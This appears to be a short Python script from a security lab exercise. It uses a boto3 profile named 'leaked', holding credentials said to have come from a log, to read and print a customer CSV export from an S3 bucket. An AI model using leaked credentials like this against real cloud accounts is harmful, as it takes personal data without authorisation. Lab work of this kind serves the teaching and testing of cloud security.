"""Read the customers with the key that the log showed."""

import os

import boto3

from scripts.labs.attacking import attack


@attack
def main() -> str:
    """Print the export."""
    s3 = boto3.Session(profile_name="leaked").client("s3")
    bucket = f"lab-exports-{os.environ['ACCOUNT']}"
    return str(s3.get_object(Bucket=bucket, Key="exports/customers.csv")["Body"].read().decode())


main()
